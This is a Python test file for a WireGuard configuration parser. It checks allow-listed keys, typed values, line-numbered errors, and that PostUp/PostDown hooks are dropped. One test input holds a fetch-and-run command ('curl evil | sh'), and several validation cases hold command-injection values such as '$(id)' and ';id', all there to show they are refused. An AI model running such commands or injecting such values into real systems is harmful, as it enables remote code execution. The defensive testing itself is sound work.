"""Files as they are read: an allow-list of keys, types out, and the line of whatever is wrong."""

from __future__ import annotations

from contextlib import suppress
from ipaddress import ip_address, ip_interface, ip_network

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webapp.domain.endpoint import Endpoint
from webapp.domain.keys import PresharedKey, PrivateKey, PublicKey
from webapp.domain.obfuscation import Obfuscation
from webapp.domain.wgconf_parser import (
    LARGEST_FILE,
    ConfigInvalid,
    InterfaceSection,
    PeerSection,
    WgConfig,
    parse_config,
)

KEY1 = "AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE="
KEY2 = "AgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgI="
KEY3 = "AwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwM="

BY_HAND = f"""\
\ufeff# the server
[interface]
privatekey={KEY1}   # keep it
LISTENPORT = 51820
FwMark = 0xca6c
Address = 10.8.0.1/24,fd00::1
Address = 10.9.0.1/24
DNS=1.1.1.1 , lan
MTU\t= 1408
PostUp = iptables -A FORWARD -i %i -j ACCEPT; echo "[Peer]" # not ours
PostDown = iptables -D FORWARD
Table = off
SaveConfig = true
Jc = 04
jmin = 10
JMAX = 50
H1 = 100 - 200
I1 = <r 2><b 0xAB>
I2 =

### Client alice
[Peer]
# Name = Alice's phone
PublicKey = {KEY2}
PresharedKey = {KEY3}
AllowedIPs = 10.8.0.2, 10.8.1.7/24  # her house
AllowedIPs = fd00::2/128
Endpoint = VPN.example.net:51820
PersistentKeepalive = 25-35
AdvancedSecurity = on
# the last word about alice

# bob
[ Peer ]
PublicKey = {KEY3}
PersistentKeepalive = off
"""


def test_a_file_made_by_hand_becomes_types() -> None:
    assert parse_config(BY_HAND) == WgConfig(
        interface=InterfaceSection(
            private_key=PrivateKey.from_base64(KEY1),
            listen_port=51820,
            fwmark=0xCA6C,
            addresses=(ip_interface("10.8.0.1/24"), ip_interface("fd00::1/128"), ip_interface("10.9.0.1/24")),
            dns=(ip_address("1.1.1.1"), "lan"),
            mtu=1408,
            obfuscation=Obfuscation.parse(
                {"Jc": "4", "Jmin": "10", "Jmax": "50", "H1": "100-200", "I1": "<r 2><b 0xab>"}
            ),
        ),
        peers=(
            PeerSection(
                public_key=PublicKey.from_base64(KEY2),
                preshared_key=PresharedKey.from_base64(KEY3),
                endpoint=Endpoint("vpn.example.net", 51820),
                allowed_ips=(ip_network("10.8.0.2/32"), ip_network("10.8.1.0/24"), ip_network("fd00::2/128")),
                persistent_keepalive=25,
                comments=("Client alice", "Name = Alice's phone", "her house", "the last word about alice"),
            ),
            PeerSection(public_key=PublicKey.from_base64(KEY3), comments=("bob",)),
        ),
        dropped=(
            (10, "PostUp"),
            (11, "PostDown"),
            (12, "Table"),
            (13, "SaveConfig"),
            (30, "AdvancedSecurity"),
        ),
    )


def test_each_peer_knows_its_line() -> None:
    assert [peer.line for peer in parse_config(BY_HAND).peers] == [22, 34]


def test_windows_line_ends_are_line_ends() -> None:
    assert parse_config(BY_HAND.replace("\n", "\r\n")) == parse_config(BY_HAND)


@pytest.mark.parametrize("text", ["", "\n\n", "# nothing here\n", "   \n\t\n"])
def test_an_empty_file_says_nothing(text: str) -> None:
    assert parse_config(text) == WgConfig(None, ())


def test_a_hook_is_never_kept() -> None:
    text = f"[Interface]\nPostUp = curl evil | sh\npreup = x\nPOSTDOWN =\nPrivateKey = {KEY1}\n"
    config = parse_config(text)
    assert config.dropped == ((2, "PostUp"), (3, "PreUp"), (4, "PostDown"))
    assert "evil" not in repr(config)


def test_secret_keys_do_not_print() -> None:
    shown = repr(parse_config(BY_HAND))
    assert KEY1 not in shown
    assert "PresharedKey>" in shown


def test_a_comment_between_blank_lines_belongs_to_what_stands_above() -> None:
    text = f"# lost\n\n[Peer]\nPublicKey = {KEY1}\n\n# still one\n\n# two\n[Peer]\nPublicKey = {KEY2}\n"
    assert [peer.comments for peer in parse_config(text).peers] == [("still one",), ("two",)]


PEER = f"[Peer]\nPublicKey = {KEY1}\n"


@pytest.mark.parametrize(
    ("text", "line", "sentence"),
    [
        ("x" * (LARGEST_FILE + 1), 0, "The file is larger than 1 MiB."),
        ("é" * (LARGEST_FILE // 2 + 1), 0, "The file is larger than 1 MiB."),
        ("[Interface]\n\n[Interface]\n", 3, "Line 3: there is a second [Interface] section."),
        (f"[Interface]\n{PEER}[interface]\n", 4, "Line 4: there is a second [Interface] section."),
        ("[Interfaces]\n", 1, "Line 1 is neither a section nor a setting."),
        ("[Interface]\nPrivateKey\n", 2, "Line 2 is neither a section nor a setting."),
        ("# a name\nMTU = 1280\n", 2, "Line 2 stands before the first section."),
        ("[Interface]\nMtuu = 1280\n", 2, "Line 2: this setting is not known here."),
        ("[Interface]\nPublicKey = x\n", 2, "Line 2: this setting is not known here."),
        (f"{PEER}PostUp = x\n", 3, "Line 3: this setting is not known here."),
        (f"{PEER}Jc = 4\n", 3, "Line 3: this setting is not known here."),
        ("[Interface]\n = 1280\n", 2, "Line 2: this setting is not known here."),
        ("[Interface]\nJ1 = <r 10>\n", 2, "Line 2: this setting is not known here."),
        ("[Interface]\nMTU = 1280\nmtu = 1280\n", 3, "Line 3: MTU is set twice."),
        ("[Interface]\nJc = 1\nJC = 1\n", 3, "Line 3: Jc is set twice."),
        ("[Interface]\nDNS =\n", 2, "Line 2: DNS has no value."),
        (f"{PEER}AllowedIPs = # none\n", 3, "Line 3: AllowedIPs has no value."),
        ("[Peer]\nAllowedIPs = ::/0\n", 1, "Line 1: this [Peer] has no PublicKey."),
        (f"{PEER}\n{PEER}", 4, "Line 4: this peer stands in the file twice."),
        ("[Interface]\nJc = 0\n", 2, "Line 2: Jc must be a whole number from 1 to 128."),
        (
            "[Interface]\nMTU = 1280\nH2 = 100\nH1 = 1-100\n",
            3,
            "Line 3: H1 (1-100) and H2 (100) must not overlap.",
        ),
        (
            "\n[Interface]\nJc = 4\nJmin = 5\n",
            2,
            "Line 2: Jmax is missing: set Jc, Jmin and Jmax together, or none of them.",
        ),
        *(
            (f"[Interface]\n# {mark}x\n", 2, "Line 2: there is a control character.")
            for mark in (
                "\x00",
                "\x07",
                "\x1b",
                "\x7f",
                "\x85",
                "\x9f",
                "\u2028",
                "\u2029",
                "\r",
                "\x0b",
                "\x0c",
            )
        ),
    ],
)
def test_what_is_not_known_to_be_harmless_is_refused_with_its_line(text: str, line: int, sentence: str) -> None:
    with pytest.raises(ConfigInvalid) as refused:
        parse_config(text)
    assert (refused.value.line, str(refused.value)) == (line, sentence)


@pytest.mark.parametrize(
    ("section", "key", "value"),
    [
        *(("Interface", "PrivateKey", value) for value in ("x", KEY1[:-1], f"{KEY1} {KEY1}", "(none)")),
        *(("Interface", "ListenPort", value) for value in ("65536", "-1", "ssh", "5 1", "99999999999")),
        *(("Interface", "FwMark", value) for value in ("on", "0x", "0x1ffffffff", "4294967296")),
        *(("Interface", "MTU", value) for value in ("575", "65536", "1280.0", "auto")),
        *(
            ("Interface", "Address", value)
            for value in ("10.8.0", "10.8.0.1/33", "10.8.0.1/255.0.0.0", "a", "10.8.0.1,")
        ),
        *(
            ("Interface", "Address", value)
            for value in ("fe80::1%eth0", "fe80::1%eth0/64", "${IFS}", "10.8.0.1 10.8.0.2")
        ),
        *(("Interface", "DNS", value) for value in ("1.1.1.1;id", "1.1.1", "a b", "a,,b", "$(id)", "1.1.1.1/32")),
        *(("Peer", "PublicKey", value) for value in ("x", KEY1.lower() + "=")),
        *(("Peer", "PresharedKey", value) for value in ("x", "(none)")),
        *(("Peer", "Endpoint", value) for value in ("vpn.example.net", "a:0", "(none)", "a_b:1")),
        *(("Peer", "AllowedIPs", value) for value in ("10.8.0.2/33", "(none)", "+10.8.0.2/32", "0.0.0.0/0;id")),
        *(("Peer", "PersistentKeepalive", value) for value in ("65536", "-5", "5-", "35-25", "1-2-3", "never")),
    ],
)
def test_a_value_of_the_wrong_type_is_refused_and_not_quoted(section: str, key: str, value: str) -> None:
    rest = f"PublicKey = {KEY2}\n" if section == "Peer" and key != "PublicKey" else ""
    with pytest.raises(ConfigInvalid) as refused:
        parse_config(f"[{section}]\n{key} = {value}\n{rest}")
    assert str(refused.value) == f"Line 2: the value of {key} cannot be used."


@pytest.mark.parametrize(
    ("line", "seconds"),
    [
        ("PersistentKeepalive = 0", 0),
        ("PersistentKeepalive = OFF", 0),
        ("PersistentKeepalive = 25", 25),
        ("", 0),
    ],
)
def test_off_is_no_keepalive(line: str, seconds: int) -> None:
    assert parse_config(f"{PEER}{line}\n").peers[0].persistent_keepalive == seconds


@pytest.mark.parametrize(("text", "mark"), [("off", 0), ("0", 0), ("51820", 51820), ("0xffffffff", 2**32 - 1)])
def test_a_mark_is_a_number_in_either_base(text: str, mark: int) -> None:
    assert parse_config(f"[Interface]\nFwMark = {text}\n").interface == InterfaceSection(fwmark=mark)


words = st.sampled_from(
    [
        "[Interface]",
        "[Peer]",
        "\n",
        " = ",
        "#",
        "PublicKey",
        "MTU",
        "Jc",
        "I1",
        "PostUp",
        KEY1,
        "1280",
        "<t>",
        ",",
    ]
)


@given(st.lists(words | st.text(max_size=5), max_size=30).map("".join))
def test_any_text_is_read_or_refused_with_a_line_of_it(text: str) -> None:
    with suppress(ConfigInvalid):
        parse_config(text)
